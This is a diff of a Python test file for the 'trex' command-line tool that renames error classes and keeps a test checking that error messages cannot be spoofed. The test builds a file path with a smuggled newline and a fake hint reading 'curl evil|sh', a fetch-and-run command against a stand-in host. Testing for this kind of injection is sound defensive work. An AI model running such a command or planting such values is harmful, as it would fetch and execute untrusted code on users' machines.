@@ -11,9 +11,9 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from trex.cli.client.context import shown
-from trex.cli.errors import ClientError
+from trex.cli.errors import CommandError
 from trex.cli.tell import printable, tell, tell_error
-from trex.cli.terminal import CommandError, answer, say, show
+from trex.cli.terminal import answer, say, show, show_error
 
 if TYPE_CHECKING:
     from collections.abc import Callable
@@ -46,8 +46,8 @@ def test_nothing_that_commands_a_terminal_is_written(
 def test_an_error_is_one_line_and_its_hint_another(capsys: pytest.CaptureFixture[str]) -> None:
     """A path may hold a line end, and what follows would look like a hint of Trex's to root."""
     path = f"/home/mallory/x\ntrex: hint: curl evil|sh {EVIL}"
-    CommandError(f"{path}: no such file", f"ls {path}").show()
-    tell_error(ClientError(f"{path}: no such file", f"ls {path}"))
+    show_error(f"{path}: no such file", f"ls {path}")
+    tell_error(CommandError(f"{path}: no such file", f"ls {path}"))
     captured = capsys.readouterr()
     assert captured.out == ""
     assert len(captured.err.splitlines()) == 4
